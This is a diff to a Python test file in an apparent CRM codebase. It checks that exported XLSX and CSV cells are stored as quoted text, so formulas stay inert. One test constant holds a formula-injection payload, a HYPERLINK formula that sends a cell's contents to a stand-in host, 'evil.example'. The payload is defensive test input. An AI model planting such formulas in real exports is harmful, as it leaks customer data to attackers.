@@ -8,8 +8,9 @@ import io
 import re
 from pathlib import Path
 
+import openpyxl
 import pytest
-from crm_shared.spreadsheet_cells import encode_csv, neutralise, restore
+from crm_shared.spreadsheet_cells import encode_csv, encode_xlsx, neutralise, restore
 
 REPO = Path(__file__).resolve().parents[3]
 HYPERLINK = '=HYPERLINK("https://evil.example/?leak="&B2,"Open")'
@@ -57,3 +58,18 @@ def test_no_other_code_writes_csv():
         if writers.search(path.read_text(encoding="utf-8"))
     ]
     assert found == ["shared/crm_shared/spreadsheet_cells.py"]
+
+
+def test_an_xlsx_holds_text_cells_only_and_a_control_character_does_not_break_it():
+    """openpyxl would make ``=...`` a formula cell and refuse a control character (XML 1.0
+    cannot hold one) for the whole workbook."""
+    data = b"".join(
+        encode_xlsx([["needs", "phone"], [HYPERLINK, "+86\x0113912345678"]], sheet_title="客户")
+    )
+    sheet = openpyxl.load_workbook(io.BytesIO(data)).active
+    header, row = sheet.iter_rows()
+    assert [(cell.value, cell.data_type, cell.quotePrefix) for cell in row] == [
+        (HYPERLINK, "s", True),
+        ("+8613912345678", "s", True),
+    ]
+    assert [cell.quotePrefix for cell in header] == [False, False]
